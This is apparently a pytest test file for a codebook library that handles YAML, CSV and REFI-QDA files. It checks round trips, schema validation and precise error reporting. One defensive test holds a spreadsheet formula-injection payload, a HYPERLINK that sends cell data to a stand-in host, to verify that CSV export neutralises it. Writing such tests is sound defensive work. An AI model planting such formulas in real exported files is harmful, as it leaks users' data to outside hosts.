"""YAML, CSV and REFI-QDA (.qdc) codebooks: round trips, the schema, and errors that name the
file, the line and the field."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from indsigt.codebook import (
    CodebookError,
    default_codebook,
    read_codebook,
    write_codebook,
)
from indsigt.codebook.texts import in_language, join_languages, split_languages
from indsigt.interchange.validation import SchemaInvalid


def _content(codebook: object) -> list[tuple[object, ...]]:
    return [
        (c.path, c.labels, c.definition, c.include, c.exclude, c.keywords, c.examples, c.color)
        for c in codebook  # type: ignore[attr-defined]
    ]


@pytest.mark.parametrize("suffix", [".yaml", ".csv", ".qdc"])
def test_round_trip(tmp_path: Path, suffix: str) -> None:
    original = default_codebook()
    path = write_codebook(original, tmp_path / f"codebook{suffix}")
    again = read_codebook(path)
    assert _content(again) == _content(original)
    assert [c.parent_id for c in again] == [c.parent_id for c in original]


def test_qdc_export_is_valid_and_stable(tmp_path: Path, codebook_xsd: Path) -> None:
    first = write_codebook(default_codebook(), tmp_path / "a.qdc", schema=codebook_xsd)
    second = write_codebook(default_codebook(), tmp_path / "b.qdc", schema=codebook_xsd)
    assert first.read_bytes() == second.read_bytes()
    schema = etree.XMLSchema(etree.parse(str(codebook_xsd)))
    document = etree.parse(str(first))
    assert schema.validate(document), schema.error_log
    names = document.xpath("//c:Code/@name", namespaces={"c": "urn:QDA-XML:codebook:1.0"})
    assert "Muligheder" in names and "Kompetencer og talent" in names
    english = write_codebook(default_codebook(), tmp_path / "en.qdc", language="en")
    assert b'name="Opportunities"' in english.read_bytes()


def test_qdc_from_another_tool(tmp_path: Path, codebook_xsd: Path) -> None:
    path = tmp_path / "other.qdc"
    path.write_text(
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<CodeBook xmlns="urn:QDA-XML:codebook:1.0" origin="NVivo">\n'
        "<Codes>\n"
        '<Code guid="4a7e5f2c-0d3b-4f59-9a41-1b2c3d4e5f60" name="Barrierer" isCodable="false">\n'
        "<Description>Det der bremser.</Description>\n"
        '<Code guid="5a7e5f2c-0d3b-4f59-9a41-1b2c3d4e5f60" name="Jura/regler" isCodable="true"'
        ' color="#aabbcc"/>\n'
        "</Code>\n"
        "</Codes>\n"
        "</CodeBook>\n",
        encoding="utf-8",
    )
    codebook = read_codebook(path, schema=codebook_xsd)
    assert [c.path for c in codebook] == ["Barrierer", "Barrierer/Jura-regler"]
    assert codebook.codes[0].definition == "Det der bremser."
    assert codebook.codes[1].color == "#aabbcc"
    assert codebook.codes[1].parent_id == codebook.codes[0].id


def test_language_tagged_texts() -> None:
    text = join_languages({"da": "Dansk tekst.", "en": "English text."})
    assert text == "da: Dansk tekst.\nen: English text."
    assert split_languages(text) == {"da": "Dansk tekst.", "en": "English text."}
    assert in_language(text, "sv") == "English text."
    assert split_languages("Bare tekst") == {"": "Bare tekst"}


def _error(path: Path) -> CodebookError:
    with pytest.raises(CodebookError) as caught:
        read_codebook(path)
    assert str(path) in str(caught.value)
    return caught.value


@pytest.mark.parametrize(
    ("text", "line", "field"),
    [
        ("codes:\n  - key: a\n    labelz: {da: A}\n", 3, "labelz"),
        ("codes:\n  - key: a\n    color: red\n", 3, "color"),
        ("codes:\n  - key: a\n  - key: a\n", 3, "key"),
        ("codes:\n  - labels: {da: A}\n", 2, "key"),
        ("codes:\n  - key: a\n    labels: {de: A}\n", 3, "labels"),
        ("codes:\n  - key: a\n    keywords: {da: {x: 1}}\n", 3, "keywords"),
        ("name: x\n", 1, "codes"),
    ],
)
def test_malformed_yaml(tmp_path: Path, text: str, line: int, field: str) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text(text, encoding="utf-8")
    error = _error(path)
    assert (error.line, error.field) == (line, field)
    assert f"line {line}" in str(error) and repr(field) in str(error)


def test_yaml_syntax_error(tmp_path: Path) -> None:
    path = tmp_path / "bad.yaml"
    path.write_text("codes:\n  - key: a\n    labels: {da: [\n", encoding="utf-8")
    assert _error(path).line >= 3


def test_malformed_csv(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("path,label_da,color\na,A,\na/b,B,blue\n", encoding="utf-8")
    error = _error(path)
    assert (error.line, error.field) == (3, "color")
    path.write_text("name,label\na,A\n", encoding="utf-8")
    assert _error(path).field == "path"
    path.write_text("path,colour\na,#fff\n", encoding="utf-8")
    assert _error(path).field == "colour"


def test_csv_cp1252_and_semicolons(tmp_path: Path) -> None:
    path = tmp_path / "codes.csv"
    path.write_bytes(
        "path;label_da;keywords\nudfordringer;Udfordringer;\n"
        'udfordringer/økonomi;Økonomi;"budget*; finansiering"\n'.encode("cp1252")
    )
    codebook = read_codebook(path)
    assert codebook.codes[1].labels == {"da": "Økonomi"}
    assert codebook.codes[1].keywords == ("budget*", "finansiering")


def test_malformed_qdc(tmp_path: Path, codebook_xsd: Path) -> None:
    path = tmp_path / "bad.qdc"
    path.write_text("<CodeBook><Codes>", encoding="utf-8")
    assert "not well-formed" in str(_error(path))
    path.write_text(
        '<CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>\n'
        '<Code guid="4a7e5f2c-0d3b-4f59-9a41-1b2c3d4e5f60" isCodable="true"/>\n'
        "</Codes></CodeBook>",
        encoding="utf-8",
    )
    error = _error(path)
    assert (error.line, error.field) == (2, "name")
    with pytest.raises(CodebookError, match=r"Codebook\.xsd"):
        read_codebook(path, schema=codebook_xsd)


def test_unknown_suffix(tmp_path: Path) -> None:
    with pytest.raises(CodebookError, match="suffix"):
        read_codebook(tmp_path / "codes.txt")


def test_invalid_export_is_refused(tmp_path: Path, codebook_xsd: Path) -> None:
    codebook = default_codebook()
    assert write_codebook(codebook, tmp_path / "ok.qdc", schema=codebook_xsd).exists()
    with pytest.raises(SchemaInvalid):
        from indsigt.interchange.validation import validate_project

        validate_project(b"<CodeBook xmlns='urn:QDA-XML:codebook:1.0'/>", codebook_xsd, label="x")


def test_csv_export_does_not_write_spreadsheet_formulas(tmp_path: Path) -> None:
    """A label or definition starting with = + - @ would run as a formula when the exported
    CSV is opened in a spreadsheet: it is written with a leading apostrophe, and read back as
    it was (issue 18, same class as item 13)."""
    from indsigt.codebook import Codebook
    from indsigt.records import Code

    hostile = '=HYPERLINK("http://x.example/?"&A1,"klik")'
    code = Code(
        id=0,
        path="Tema",
        labels={"da": hostile},
        definition="+1 tæller som -1",
        include="@SUM(A1)",
        exclude="- ikke dette",
        keywords=("=cmd",),
        examples=("=2+2",),
        color="",
    )
    path = write_codebook(Codebook.from_codes([code], name="x"), tmp_path / "codes.csv")
    import csv

    cells = [cell for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    assert f"'{hostile}" in cells
    again = read_codebook(path)
    assert _content(again) == _content(Codebook.from_codes([code], name="x"))
